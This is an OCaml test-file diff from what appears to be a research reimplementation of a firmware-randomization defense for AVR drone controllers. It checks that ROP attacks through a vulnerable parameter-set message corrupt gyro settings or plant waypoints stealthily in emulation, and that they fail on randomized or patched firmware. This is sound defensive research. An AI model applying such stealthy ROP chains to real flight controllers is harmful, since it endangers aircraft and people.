@@ -1,0 +1,211 @@
+module Cpu = Mavr_avr.Cpu
+module Io = Mavr_avr.Device.Io
+module Image = Mavr_obj.Image
+module Rop = Mavr_core.Rop
+module Layout = Mavr_firmware.Layout
+
+let send_and_run cpu ?(cycles = 2_000_000) frames =
+  List.iter (Cpu.uart_send cpu) frames;
+  Cpu.run cpu ~max_cycles:cycles
+
+let gyro_cfg cpu =
+  Cpu.data_peek cpu Layout.gyro_cfg lor (Cpu.data_peek cpu (Layout.gyro_cfg + 1) lsl 8)
+
+let cfg_write obs value =
+  Rop.write_u16 obs ~addr:Layout.gyro_cfg ~value ~neighbour:0
+
+let test_analyze_finds_target () =
+  let _, ti, _ = Helpers.attack_target () in
+  Alcotest.(check int) "vulnerable msgid is PARAM_SET" 23 ti.vuln_msgid;
+  Alcotest.(check bool) "gadgets located" true (ti.gadgets.stk_move > 0)
+
+let test_observe_geometry () =
+  let b, _, obs = Helpers.attack_target () in
+  ignore b;
+  Alcotest.(check int) "six saved bytes" 6 (String.length obs.saved_bytes);
+  Alcotest.(check bool) "s0 near stack top" true
+    (obs.s0 > Layout.stack_top - 64 && obs.s0 <= Layout.stack_top);
+  Alcotest.(check int) "32 registers" 32 (Array.length obs.regs)
+
+let test_v1_writes_then_crashes () =
+  let b, ti, obs = Helpers.attack_target () in
+  let cpu = Helpers.boot b.image in
+  let r = send_and_run cpu (Rop.v1_basic ti obs ~writes:[ cfg_write obs 0x4000 ]) in
+  Alcotest.(check int) "write landed" 0x4000 (gyro_cfg cpu);
+  match r with
+  | `Halted _ -> ()
+  | `Budget_exhausted -> Alcotest.fail "V1 must destroy the stack and crash"
+
+let test_v2_writes_and_survives () =
+  let b, ti, obs = Helpers.attack_target () in
+  let cpu = Helpers.boot b.image in
+  ignore (Cpu.uart_take_tx cpu);
+  let r = send_and_run cpu ~cycles:3_000_000 (Rop.v2_stealthy ti obs ~writes:[ cfg_write obs 0x4000 ]) in
+  Alcotest.(check int) "write landed" 0x4000 (gyro_cfg cpu);
+  Alcotest.(check string) "clean return: still running" "running" (Helpers.run_result_to_string r)
+
+let test_v2_telemetry_uninterrupted () =
+  let b, ti, obs = Helpers.attack_target () in
+  let cpu = Helpers.boot b.image in
+  List.iter (Cpu.uart_send cpu) (Rop.v2_stealthy ti obs ~writes:[ cfg_write obs 0x1234 ]);
+  let r, frames, stats = Helpers.telemetry cpu ~cycles:3_000_000 in
+  Alcotest.(check string) "running" "running" (Helpers.run_result_to_string r);
+  Alcotest.(check int) "no CRC errors at GCS" 0 stats.crc_errors;
+  Alcotest.(check int) "no garbage bytes at GCS" 0 stats.bytes_dropped;
+  Alcotest.(check bool) "telemetry kept flowing" true (List.length frames > 20)
+
+let test_v2_stack_fully_repaired () =
+  (* At the instant the clean return lands back in the caller, the six
+     smashed bytes hold their original values again.  (Later the region
+     is legitimately reused by other call frames.) *)
+  let b, ti, obs = Helpers.attack_target () in
+  let cpu = Helpers.boot b.image in
+  List.iter (Cpu.uart_send cpu) (Rop.v2_stealthy ti obs ~writes:[ cfg_write obs 1 ]);
+  let byte i = Char.code obs.saved_bytes.[i] in
+  let ret_target = ((byte 3 lsl 16) lor (byte 4 lsl 8) lor byte 5) * 2 in
+  (match
+     Cpu.run_until cpu ~max_cycles:3_000_000 (fun c ->
+         Cpu.pc_byte_addr c = ret_target && gyro_cfg c = 1)
+   with
+  | `Pred -> ()
+  | _ -> Alcotest.fail "clean return never happened");
+  Alcotest.(check string) "saved bytes restored" obs.saved_bytes
+    (Cpu.stack_slice cpu ~pos:(obs.s0 - 5) ~len:6);
+  Alcotest.(check int) "SP back to caller level" obs.s0 (Cpu.sp cpu)
+
+let test_v2_multiple_writes () =
+  let b, ti, obs = Helpers.attack_target () in
+  let cpu = Helpers.boot b.image in
+  let writes =
+    [
+      { Rop.base = 0x7F0 - 1; bytes = (0x11, 0x22, 0x33) };
+      { Rop.base = 0x7F4 - 1; bytes = (0x44, 0x55, 0x66) };
+      cfg_write obs 0x0101;
+    ]
+  in
+  let r = send_and_run cpu ~cycles:3_000_000 (Rop.v2_stealthy ti obs ~writes) in
+  Alcotest.(check string) "running" "running" (Helpers.run_result_to_string r);
+  Alcotest.(check int) "write 1" 0x11 (Cpu.data_peek cpu 0x7F0);
+  Alcotest.(check int) "write 2" 0x66 (Cpu.data_peek cpu (0x7F4 + 2));
+  Alcotest.(check int) "cfg" 0x0101 (gyro_cfg cpu)
+
+let test_v2_write_limit () =
+  let _, ti, obs = Helpers.attack_target () in
+  let too_many = List.init 7 (fun i -> { Rop.base = 0x700 + i; bytes = (0, 0, 0) }) in
+  match Rop.v2_stealthy ti obs ~writes:too_many with
+  | _ -> Alcotest.fail "7 writes must be rejected"
+  | exception Invalid_argument _ -> ()
+
+let test_trigger_is_72_bytes () =
+  let _, ti, obs = Helpers.attack_target () in
+  match Rop.v2_stealthy ti obs ~writes:[] with
+  | [ _staging; trigger ] ->
+      (* frame = 6 header + payload + 2 crc *)
+      Alcotest.(check int) "trigger payload length" Rop.trigger_len
+        (String.length trigger - 8)
+  | frames -> Alcotest.failf "expected 2 frames, got %d" (List.length frames)
+
+let test_v3_stages_arbitrary_data () =
+  let b, ti, obs = Helpers.attack_target () in
+  let cpu = Helpers.boot b.image in
+  let data = String.init 100 (fun i -> Char.chr ((i * 7) land 0xFF)) in
+  let dest = Layout.free_region in
+  let frames = Rop.v3_stage ti obs ~data ~dest in
+  List.iter (fun f -> Cpu.uart_send cpu f; ignore (Cpu.run cpu ~max_cycles:300_000)) frames;
+  let r = Cpu.run cpu ~max_cycles:500_000 in
+  Alcotest.(check string) "alive after staging" "running" (Helpers.run_result_to_string r);
+  Alcotest.(check string) "payload staged" data (Cpu.stack_slice cpu ~pos:dest ~len:100)
+
+let test_v3_execute_big_chain () =
+  let b, ti, obs = Helpers.attack_target () in
+  let cpu = Helpers.boot b.image in
+  let msg = "WAYPOINT:47.6205,-122.3493 WAYPOINT:37.4220,-122.0841 RTL:NEVER" in
+  let dest = Layout.free_region + 0x400 in
+  let writes =
+    let n = String.length msg in
+    let byte i = if i < n then Char.code msg.[i] else 0 in
+    List.init ((n + 2) / 3) (fun k ->
+        { Rop.base = dest + (3 * k) - 1; bytes = (byte (3 * k), byte ((3 * k) + 1), byte ((3 * k) + 2)) })
+  in
+  let frames = Rop.v3_execute ti obs ~chain_dest:Layout.free_region ~writes in
+  List.iter (fun f -> Cpu.uart_send cpu f; ignore (Cpu.run cpu ~max_cycles:300_000)) frames;
+  let r = Cpu.run cpu ~max_cycles:1_000_000 in
+  Alcotest.(check string) "alive after execution" "running" (Helpers.run_result_to_string r);
+  Alcotest.(check string) "all writes landed" msg
+    (Cpu.stack_slice cpu ~pos:dest ~len:(String.length msg))
+
+let test_big_chain_exceeds_single_volley () =
+  (* The point of the trampoline: the staged chain is far larger than
+     what fits in the 255-byte staging buffer. *)
+  let _, ti, obs = Helpers.attack_target () in
+  let writes = List.init 30 (fun i -> { Rop.base = 0x1C00 + (3 * i); bytes = (1, 2, 3) }) in
+  let chain = Rop.big_chain_bytes ti obs ~writes in
+  Alcotest.(check bool) "chain bigger than staging buffer" true
+    (String.length chain > Layout.stage_len)
+
+let test_attacks_fail_on_randomized () =
+  let b, ti, obs = Helpers.attack_target () in
+  let v2 = Rop.v2_stealthy ti obs ~writes:[ cfg_write obs 0x4000 ] in
+  let v1 = Rop.v1_basic ti obs ~writes:[ cfg_write obs 0x4000 ] in
+  for seed = 1 to 8 do
+    let img = Mavr_core.Randomize.randomize ~seed b.image in
+    List.iter
+      (fun frames ->
+        let cpu = Helpers.boot img in
+        ignore (send_and_run cpu frames);
+        Alcotest.(check bool)
+          (Printf.sprintf "no write on seed %d" seed)
+          false
+          (gyro_cfg cpu = 0x4000))
+      [ v2; v1 ]
+  done
+
+let test_attack_succeeds_on_unlucky_identity () =
+  (* Sanity check of the experiment: if the "randomized" layout happens
+     to be the original one, the attack must succeed — guessing the
+     permutation is sufficient (§V-D's success criterion). *)
+  let b, ti, obs = Helpers.attack_target () in
+  let n = Image.function_count b.image in
+  let identity = Mavr_core.Randomize.with_order b.image (Array.init n (fun i -> i)) in
+  let cpu = Helpers.boot identity in
+  ignore (send_and_run cpu ~cycles:3_000_000 (Rop.v2_stealthy ti obs ~writes:[ cfg_write obs 0x4000 ]));
+  Alcotest.(check int) "attack works on identity layout" 0x4000 (gyro_cfg cpu)
+
+let test_patched_firmware_immune () =
+  (* With the length check restored the same frames do nothing. *)
+  let patched = Helpers.build_patched () in
+  let _, ti, obs = Helpers.attack_target () in
+  let cpu = Helpers.boot patched.image in
+  let r = send_and_run cpu ~cycles:3_000_000 (Rop.v2_stealthy ti obs ~writes:[ cfg_write obs 0x4000 ]) in
+  Alcotest.(check string) "still running" "running" (Helpers.run_result_to_string r);
+  Alcotest.(check bool) "no write" false (gyro_cfg cpu = 0x4000)
+
+let () =
+  Alcotest.run "rop"
+    [
+      ( "recon",
+        [
+          Alcotest.test_case "analyze" `Quick test_analyze_finds_target;
+          Alcotest.test_case "observe geometry" `Quick test_observe_geometry;
+        ] );
+      ( "attacks",
+        [
+          Alcotest.test_case "V1 writes then crashes" `Quick test_v1_writes_then_crashes;
+          Alcotest.test_case "V2 writes and survives" `Quick test_v2_writes_and_survives;
+          Alcotest.test_case "V2 telemetry uninterrupted" `Quick test_v2_telemetry_uninterrupted;
+          Alcotest.test_case "V2 stack repaired" `Quick test_v2_stack_fully_repaired;
+          Alcotest.test_case "V2 multiple writes" `Quick test_v2_multiple_writes;
+          Alcotest.test_case "V2 write limit" `Quick test_v2_write_limit;
+          Alcotest.test_case "trigger geometry" `Quick test_trigger_is_72_bytes;
+          Alcotest.test_case "V3 stages data" `Quick test_v3_stages_arbitrary_data;
+          Alcotest.test_case "V3 executes big chain" `Quick test_v3_execute_big_chain;
+          Alcotest.test_case "V3 chain exceeds buffer" `Quick test_big_chain_exceeds_single_volley;
+        ] );
+      ( "vs-defense",
+        [
+          Alcotest.test_case "attacks fail on randomized" `Slow test_attacks_fail_on_randomized;
+          Alcotest.test_case "identity layout still vulnerable" `Quick
+            test_attack_succeeds_on_unlucky_identity;
+          Alcotest.test_case "patched firmware immune" `Quick test_patched_firmware_immune;
+        ] );
+    ]
